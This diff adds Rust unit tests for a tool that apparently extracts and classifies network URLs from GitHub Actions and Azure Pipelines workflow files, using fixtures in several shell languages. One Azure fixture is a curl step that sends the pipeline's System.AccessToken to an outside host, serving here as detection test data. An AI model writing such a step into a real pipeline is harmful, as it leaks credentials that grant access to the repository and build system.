@@ -100,3 +100,34 @@ fn a_great_many_environments_are_bounded() {
     let steps: String = (0..2_000).map(|i| format!("      - run: curl $A{i}\n")).collect();
     assert_eq!(urls(WORKFLOW, &format!("env:\n{wide}jobs:\n  a:\n    steps:\n{steps}")).len(), 2_000);
 }
+
+#[test]
+fn a_step_may_be_in_another_language() {
+    let steps = |rest: &str| format!("env: {{B: https://a.test}}\njobs:\n  x:\n    {rest}");
+    let one = |rest: &str| urls(WORKFLOW, &steps(rest));
+    let read = "1:10 endpoint https://a.test/x <https://a.test>";
+    assert_eq!(one("steps:\n    - shell: python\n      run: import os, requests; requests.get(os.environ['B'] + '/x')\n"), [read]);
+    assert_eq!(one("steps:\n    - shell: pwsh\n      run: irm $env:B/x\n"), [read]);
+    assert_eq!(one("runs-on: windows-2022\n    steps:\n    - run: irm \"$($env:B)/x\"\n"), [read]);
+    assert_eq!(one("defaults: {run: {shell: powershell}}\n    steps:\n    - run: irm \"${{ env.B }}/x\"\n"), [read]);
+    assert_eq!(
+        one("steps:\n    - uses: actions/github-script@v7\n      with:\n        script: await fetch(`${process.env.B}/x`)\n"),
+        [read]
+    );
+    // The shell of a Linux runner is one, and `cmd` is read by nobody.
+    assert_eq!(one("runs-on: ubuntu-latest\n    steps:\n    - run: curl -d '' $B/x\n"), [read]);
+    assert_eq!(one("steps:\n    - shell: cmd\n      run: curl %B%/x\n"), ["1:10 mention https://a.test <https://a.test>"]);
+}
+
+#[test]
+fn azure_names_its_shells() {
+    let source = "variables: {B: https://a.test}\nsteps:\n- pwsh: irm $(B)/x\n- task: PowerShell@2\n  inputs:\n    script: irm https://b.test/$(B)\n- task: AzureCLI@2\n  inputs:\n    scriptType: bash\n    inlineScript: curl https://c.test/$(System.AccessToken)\n";
+    assert_eq!(
+        urls("azure-pipelines.yml", source),
+        [
+            "1:16 endpoint https://a.test/x <https://a.test>",
+            "6:17 endpoint https://b.test/https://a.test <https://b.test/>",
+            "10:24 download https://c.test/{System.AccessToken} <https://c.test/$(System.AccessToken)>",
+        ]
+    );
+}
